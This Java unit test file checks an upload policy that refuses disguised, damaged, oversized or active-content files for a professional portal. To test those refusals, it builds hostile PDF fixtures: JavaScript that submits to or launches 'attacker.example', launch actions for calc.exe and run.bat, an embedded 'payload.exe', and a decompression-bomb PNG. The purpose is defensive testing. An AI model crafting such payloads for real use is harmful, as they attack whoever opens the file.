package org.guildhall.documents.domain;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.guildhall.documents.DocumentRejectedException;
import org.guildhall.documents.SampleFiles;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.fail;

/** The evidence rules: accepted by what a file contains, within the size limit, and refused in plain words. */
class UploadPolicyTest {

    private static final long TEN_MB = 10L * 1024 * 1024;
    private static final long FORTY_MEGAPIXELS = 40_000_000L;

    private final UploadPolicy policy = new UploadPolicy(TEN_MB, List.of(DocumentType.values()), FORTY_MEGAPIXELS);

    @Test
    void a_real_pdf_is_accepted_as_a_pdf() {
        assertThat(policy.inspect(SampleFiles.pdf())).isEqualTo(DocumentType.PDF);
    }

    @Test
    void a_png_and_a_jpeg_are_accepted_as_what_they_are() {
        assertThat(policy.inspect(SampleFiles.png())).isEqualTo(DocumentType.PNG);
        assertThat(policy.inspect(SampleFiles.jpeg())).isEqualTo(DocumentType.JPEG);
    }

    @Test
    void a_text_file_renamed_pdf_is_refused_because_content_counts_not_the_name() {
        assertRefused(SampleFiles.text("My CPD log: 12 hours of webinars"), "not a PDF, PNG or JPEG file");
    }

    @Test
    void an_encrypted_pdf_is_refused_whether_or_not_it_needs_a_password_to_open() {
        assertRefused(SampleFiles.encryptedPdf(""), "password-protected or encrypted");
        assertRefused(SampleFiles.encryptedPdf("open sesame"), "password-protected or encrypted");
    }

    @Test
    void a_pdf_that_only_starts_like_one_is_refused_as_damaged() {
        byte[] truncated = Arrays.copyOf(SampleFiles.pdf(), 40);
        assertRefused(truncated, "This PDF cannot be opened");
    }

    @Test
    void a_corrupt_image_is_refused_as_damaged() {
        byte[] png = SampleFiles.png();
        assertRefused(Arrays.copyOf(png, png.length / 2), "This PNG image cannot be opened");

        byte[] jpeg = SampleFiles.jpeg();
        Arrays.fill(jpeg, 3, jpeg.length, (byte) 0x5A);
        assertRefused(jpeg, "This JPEG image cannot be opened");
    }

    @Test
    void an_image_of_absurd_dimensions_is_refused_before_it_is_decoded() {
        // One bit per pixel compresses to almost nothing: the classic decompression bomb.
        byte[] bomb = SampleFiles.write(new BufferedImage(10_001, 10_001, BufferedImage.TYPE_BYTE_BINARY), "png");
        assertThat(bomb.length).isLessThan(1024 * 1024);
        assertRefused(bomb, "10001 × 10001 pixels");
    }

    @Test
    void an_image_over_the_configured_megapixels_is_refused_by_its_header_alone() {
        // 48 MP, under the old fixed 100 MP ceiling; the file has no pixel data, so decoding would call it damaged.
        assertRefused(SampleFiles.pngHeaderOnly(8000, 6000),
                "8000 × 6000 pixels; the portal takes images of up to 40 megapixels");
    }

    // OWASP File Upload Cheat Sheet: a PDF must not carry anything that acts on the computer of whoever opens it.

    @Test
    void a_pdf_that_runs_javascript_when_opened_is_refused() {
        assertRefused(SampleFiles.craftedPdf((document, page) -> document.getDocumentCatalog()
                .setOpenAction(new PDActionJavaScript("app.alert('hello')"))), "This PDF contains JavaScript,");
    }

    @Test
    void a_pdf_with_javascript_behind_a_link_on_a_page_is_refused() {
        assertRefused(SampleFiles.craftedPdf((document, page) -> {
            var link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(50, 50, 100, 20));
            link.setAction(new PDActionJavaScript("this.submitForm('https://attacker.example')"));
            page.getAnnotations().add(link);
        }), "contains JavaScript");
    }

    @Test
    void a_pdf_with_javascript_in_its_names_tree_is_refused() {
        assertRefused(SampleFiles.craftedPdf((document, page) -> {
            var scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("init", new PDActionJavaScript("app.launchURL('https://attacker.example')")));
            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
        }), "contains JavaScript");
    }

    @Test
    void a_pdf_whose_page_starts_a_program_when_shown_is_refused() {
        assertRefused(SampleFiles.craftedPdf((document, page) -> {
            var launch = new PDActionLaunch();
            launch.setFile(fileNamed("C:\\Windows\\System32\\calc.exe"));
            page.getActions().setO(launch);
        }), "This PDF contains an action that starts another program,");
    }

    @Test
    void a_pdf_with_a_file_embedded_in_it_is_refused() {
        assertRefused(SampleFiles.craftedPdf((document, page) -> {
            var file = new PDComplexFileSpecification();
            file.setFile("payload.exe");
            file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(new byte[] {'M', 'Z'})));
            var attachments = new PDEmbeddedFilesNameTreeNode();
            attachments.setNames(Map.of("payload.exe", file));
            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(attachments);
            document.getDocumentCatalog().setNames(names);
        }), "This PDF contains files embedded in it,");
    }

    @Test
    void a_pdf_carrying_several_kinds_names_them_all() {
        assertRefused(SampleFiles.craftedPdf((document, page) -> {
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
            var launch = new PDActionLaunch();
            launch.setFile(fileNamed("run.bat"));
            page.getActions().setC(launch);
        }), "contains JavaScript and an action that starts another program");
    }

    @Test
    void a_pdf_with_an_ordinary_web_link_is_accepted() {
        byte[] withLink = SampleFiles.craftedPdf((document, page) -> {
            var link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(50, 50, 100, 20));
            var uri = new PDActionURI();
            uri.setURI("https://www.guildhall.example/cpd");
            link.setAction(uri);
            page.getAnnotations().add(link);
        });
        assertThat(policy.inspect(withLink)).isEqualTo(DocumentType.PDF);
    }

    @Test
    void an_eleven_megabyte_file_is_refused_for_its_size() {
        var elevenMegabytes = new ByteArrayInputStream(new byte[11 * 1024 * 1024]);
        assertThatExceptionOfType(DocumentRejectedException.class)
                .isThrownBy(() -> policy.receive(elevenMegabytes, -1))
                .withMessage("Files can be at most 10 MB; this one is larger.");
    }

    @Test
    void a_file_announced_as_too_large_is_refused_without_reading_it() {
        InputStream untouchable = new InputStream() {
            @Override
            public int read() {
                return fail("the upload was read");
            }
        };
        assertThatExceptionOfType(DocumentRejectedException.class)
                .isThrownBy(() -> policy.receive(untouchable, TEN_MB + 1))
                .withMessageContaining("at most 10 MB");
    }

    @Test
    void a_file_of_exactly_the_limit_is_received() {
        assertThat(policy.receive(new ByteArrayInputStream(new byte[(int) TEN_MB]), TEN_MB)).hasSize((int) TEN_MB);
    }

    @Test
    void an_empty_file_is_refused() {
        assertThatExceptionOfType(DocumentRejectedException.class)
                .isThrownBy(() -> policy.receive(InputStream.nullInputStream(), 0))
                .withMessage("The file is empty.");
    }

    @Test
    void a_kind_left_out_of_the_configuration_is_refused_and_the_limits_say_so() {
        var pdfOnly = new UploadPolicy(TEN_MB, List.of(DocumentType.PDF), FORTY_MEGAPIXELS);

        assertThatExceptionOfType(DocumentRejectedException.class)
                .isThrownBy(() -> pdfOnly.inspect(SampleFiles.png()))
                .withMessageStartingWith("This file is not a PDF file.");
        assertThat(pdfOnly.limits().summary()).isEqualTo("PDF, up to 10 MB each");
        assertThat(policy.limits().summary()).isEqualTo("PDF, PNG or JPEG, up to 10 MB each");
        assertThat(policy.limits().fileExtensions()).containsExactly(".pdf", ".png", ".jpg", ".jpeg");
    }

    @Test
    void a_type_the_portal_cannot_check_is_refused_at_start_up() {
        assertThatExceptionOfType(IllegalArgumentException.class)
                .isThrownBy(() -> DocumentType.forContentType("image/gif"))
                .withMessageContaining("image/gif");
    }

    private static PDSimpleFileSpecification fileNamed(String name) {
        var file = new PDSimpleFileSpecification();
        file.setFile(name);
        return file;
    }

    private void assertRefused(byte[] content, String reason) {
        assertThatExceptionOfType(DocumentRejectedException.class)
                .isThrownBy(() -> policy.inspect(content))
                .withMessageContaining(reason);
    }
}
